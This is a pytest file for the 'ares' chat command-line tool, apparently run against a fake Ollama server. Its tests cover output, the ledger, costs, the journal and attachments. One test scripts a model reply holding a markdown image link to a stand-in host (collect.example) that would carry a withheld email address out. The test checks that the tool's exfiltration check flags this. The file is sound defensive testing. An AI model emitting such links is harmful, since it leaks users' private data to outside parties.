"""``ares chat`` and ``ares ledger`` as a script would use them, in a real child process."""

from __future__ import annotations

import json
import socket
from pathlib import Path

from app.controller.events import TurnFinished, TurnStarted
from memory import MemoryStore
from tests.fakes.ollama_server import FakeOllama
from tests.helpers import TEST_PASSPHRASE, ollama_config, run_ares, write_config


def _chat_requests(server: FakeOllama) -> list:
    return [r for r in server.requests if r.path == "/api/chat"]


def test_chat_json_prints_the_answer_and_the_ledger_matches_the_wire(
    ares_home: Path, fake_ollama: FakeOllama
) -> None:
    write_config(ares_home, ollama_config(fake_ollama.url))
    fake_ollama.script_reply(["Hel", "lo ", "there", "!"])

    done = run_ares(ares_home, "chat", "--worker", "local", "--json", "hello")

    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["answer"] == "Hello there!"
    assert result["worker"] == "local"
    assert result["sensitivity"] == "public"
    assert result["conversation"] and isinstance(result["ledger_id"], int)
    sent = _chat_requests(fake_ollama)
    assert len(sent) == 1 and sent[0].json()["messages"][-1]["content"] == "hello"

    ledger = run_ares(ares_home, "ledger", "--json")
    assert ledger.returncode == 0, ledger.stderr
    entries = json.loads(ledger.stdout)
    assert len(entries) == 1
    assert entries[0]["id"] == result["ledger_id"]
    assert entries[0]["sha256"] == sent[0].sha256
    assert entries[0]["bytes"] == len(sent[0].body)
    assert entries[0]["worker"] == "local"


def test_chat_streams_plain_text_to_stdout(ares_home: Path, fake_ollama: FakeOllama) -> None:
    write_config(ares_home, ollama_config(fake_ollama.url))
    fake_ollama.script_reply(["one ", "two ", "three"])
    done = run_ares(ares_home, "chat", "count to three")
    assert done.returncode == 0, done.stderr
    assert done.stdout == "one two three\n"


def test_chat_reads_the_message_from_stdin(ares_home: Path, fake_ollama: FakeOllama) -> None:
    write_config(ares_home, ollama_config(fake_ollama.url))
    fake_ollama.script_reply(["ok"])
    done = run_ares(ares_home, "chat", "-", stdin="a message\non two lines\n")
    assert done.returncode == 0, done.stderr
    assert _chat_requests(fake_ollama)[0].json()["messages"][-1]["content"] == (
        "a message\non two lines\n"
    )


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_unreachable_ollama_is_one_clear_sentence_and_exit_3(ares_home: Path) -> None:
    url = f"http://127.0.0.1:{_free_port()}"
    write_config(ares_home, ollama_config(url, model="llama3.2:3b"))

    done = run_ares(ares_home, "chat", "--worker", "local", "are you there?")

    assert done.returncode == 3
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, done.stderr
    assert "not reachable" in lines[0] and url in lines[0]
    assert "Traceback" not in done.stderr
    # Nothing is lost: the message is in memory, ready to resend.
    store = MemoryStore.open(ares_home / "ares.db", passphrase=TEST_PASSPHRASE)
    try:
        [conversation] = store.conversations()
        messages = store.messages(conversation.id)
    finally:
        store.close()
    assert [(m.role, m.text) for m in messages] == [("user", "are you there?")]


def test_unknown_worker_is_a_usage_error(ares_home: Path, fake_ollama: FakeOllama) -> None:
    write_config(ares_home, ollama_config(fake_ollama.url))
    done = run_ares(ares_home, "chat", "--worker", "nope", "hi")
    assert done.returncode == 2
    assert "nope" in done.stderr and "local" in done.stderr
    assert _chat_requests(fake_ollama) == []


def test_bad_config_names_the_file_and_the_key(ares_home: Path) -> None:
    path = write_config(ares_home, '[[workers]]\nid = "x"\nkind = "openai"\nmodel = "m"\n')
    done = run_ares(ares_home, "chat", "hi")
    assert done.returncode == 2
    assert str(path) in done.stderr
    assert "privacy_class" in done.stderr


def test_answer_checks_flag_an_image_that_would_carry_a_withheld_email(
    ares_home: Path, fake_ollama: FakeOllama
) -> None:
    write_config(
        ares_home,
        ollama_config(fake_ollama.url).replace('"local_only"', '"external_provider"'),
    )
    fake_ollama.script_reply(["Sure! ", "![ok](https://collect.example/p?d=[EMAIL", "_1])"])

    done = run_ares(
        ares_home, "chat", "--worker", "local", "--json", "Remind me: my mail is zoe.k@example.org"
    )

    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert "zoe.k@example.org" not in _chat_requests(fake_ollama)[0].body.decode()
    assert "zoe.k@example.org" in result["answer"]  # restored on the device
    checks = {c["name"]: c["status"] for c in result["checks"]}
    assert checks["no_exfiltration"] == "fail" and checks["not_empty"] == "pass"


def test_a_priced_turn_shows_its_cost_in_chat_and_ledger_and_its_journal_by_turn(
    ares_home: Path, fake_ollama: FakeOllama
) -> None:
    prices = 'price_in_per_mtok = 2000000.0\nprice_out_per_mtok = 4000000.0\ncurrency = "EUR"\n'
    write_config(ares_home, ollama_config(fake_ollama.url) + prices)
    fake_ollama.script_reply(["one ", "two ", "three"])

    done = run_ares(ares_home, "chat", "--json", "count to three")

    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    tokens_in = result["cost"]["tokens_in"]
    assert tokens_in > 0 and result["cost"]["tokens_out"] == 3
    assert result["cost"]["money"] == tokens_in * 2.0 + 3 * 4.0
    assert result["cost"]["currency"] == "EUR"
    [entry] = json.loads(run_ares(ares_home, "ledger", "--json").stdout)
    assert entry["turn"] == result["turn"] and entry["cost"] == result["cost"]

    journal = run_ares(ares_home, "journal", "--turn", result["turn"], "--json")
    assert journal.returncode == 0, journal.stderr
    rows = json.loads(journal.stdout)
    assert {r["turn"] for r in rows} == {result["turn"]}
    names = [r["event"] for r in rows]
    assert names[0] == _name(TurnStarted)
    assert names[-1] == _name(TurnFinished)
    assert rows[-1]["payload"]["cost"] == result["cost"]

    missing = run_ares(ares_home, "journal", "--turn", "no-such-turn")
    assert missing.returncode == 2 and "no-such-turn" in missing.stderr


def _name(event: type[TurnStarted] | type[TurnFinished]) -> str:
    return str(event.model_fields["name"].default)


def test_chat_attach_sends_the_files_text_and_refuses_a_binary_before_storing(
    ares_home: Path, fake_ollama: FakeOllama, tmp_path: Path
) -> None:
    from tests.helpers_pdf import pdf_bytes

    write_config(ares_home, ollama_config(fake_ollama.url))
    fake_ollama.script_reply(["Read it."])
    report = tmp_path / "report.pdf"
    report.write_bytes(pdf_bytes(["The quince tree goes by the north wall."]))
    done = run_ares(ares_home, "chat", "--json", "--attach", str(report), "Where does it go?")
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["attachments"] == [
        {
            "name": "report.pdf",
            "media_type": "application/pdf",
            "size_bytes": report.stat().st_size,
            "pages": 1,
            "how": "included whole",
        }
    ]
    sent = _chat_requests(fake_ollama)[0].json()["messages"][-1]["content"]
    assert "Attached file: report.pdf (included whole)\nThe quince tree" in sent

    photo = tmp_path / "photo.png"
    photo.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    refused = run_ares(ares_home, "chat", "--attach", str(photo), "And this?")
    assert refused.returncode == 2
    assert "photo.png cannot be attached: it is a binary file" in refused.stderr
    assert len(_chat_requests(fake_ollama)) == 1
    with MemoryStore.open(ares_home / "ares.db", passphrase=TEST_PASSPHRASE) as store:
        [conversation] = store.conversations()
        assert [m.text for m in store.messages(conversation.id)][-1] == "Read it."
